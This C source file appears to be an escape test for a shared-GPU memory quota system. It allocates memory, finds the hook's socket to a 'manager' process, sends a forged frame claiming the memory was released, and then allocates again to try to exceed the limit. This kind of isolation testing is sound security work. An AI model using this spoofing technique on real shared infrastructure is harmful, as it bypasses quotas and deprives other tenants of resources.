/* Frames that give back memory which the process still has, sent over the hook's own connection. argv[1]: bytes below the limit. */
#include "escape.h"
#include <fcntl.h>
#include "wire.h"

int main(int argc, char **argv) {
    EXPECT(argc > 1);
    uint64_t bytes = strtoull(argv[1], NULL, 0);
    honest_tenant();
    CUdeviceptr data;
    DO(cuMemAlloc_v2(&data, bytes));
    ATTEMPT();
    unsigned char request[REQUEST], *at = frame(request, 1, MEM_UPDATE);
    memcpy(at, &bytes, 8);
    for (int fd = 3; fd < 256; fd++) {
        struct sockaddr_un peer = {0};
        socklen_t len = sizeof peer;
        int is_managers = getpeername(fd, (struct sockaddr *)&peer, &len) == 0 && strstr(peer.sun_path, "manager");
        if (is_managers) (void)!send(fd, request, REQUEST, MSG_NOSIGNAL | MSG_DONTWAIT);
    }
    usleep(100000);
    (void)cuMemAlloc_v2(&data, bytes);
    rest();
    return 0;
}
